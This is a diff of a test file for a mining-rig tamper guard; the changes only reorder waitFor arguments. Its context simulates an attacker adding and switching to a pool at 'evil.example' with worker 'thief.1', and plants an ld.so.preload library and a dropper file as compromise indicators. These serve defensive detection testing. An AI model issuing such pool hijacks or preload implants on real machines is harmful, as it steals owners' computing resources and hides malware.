@@ -92,7 +92,7 @@ describe("GuardRunner on a simulated board", () => {
   it("addpool then switchpool from another process is detected by the next cycle (within one interval), reported once", async () => {
     const { runner, events, port } = await setup();
     runner.start(60_000); // the first cycle runs at once; the next only on runNow() here (deterministic)
-    await waitFor(() => runner.findings !== null, "first cycle");
+    await waitFor("first cycle", () => runner.findings !== null);
     const statuses = await attackFromAnotherProcess(port, [
       { command: "addpool", parameter: "stratum+tcp://evil.example:3333,thief.1,x" },
       { command: "switchpool", parameter: "1" },
@@ -306,7 +306,7 @@ describe("GuardRunner failures (HW-GUARD-7) and restarts", () => {
     writeFileSync(join(root, "etc/ld.so.preload"), "/lib/libsys.so\n");
     writeFileSync(join(root, "etc/dropper"), "x");
     runner.start(60_000); // an unhandled rejection from the timer's cycle would fail this test file
-    await waitFor(() => runner.findings !== null, "first cycle");
+    await waitFor("first cycle", () => runner.findings !== null);
     const cycle = await runner.runNow();
     expect(cycle.error).toBeUndefined();
     const both = ["indicator /etc/ld.so.preload", "indicator /etc/dropper"]; // sorted by finding key
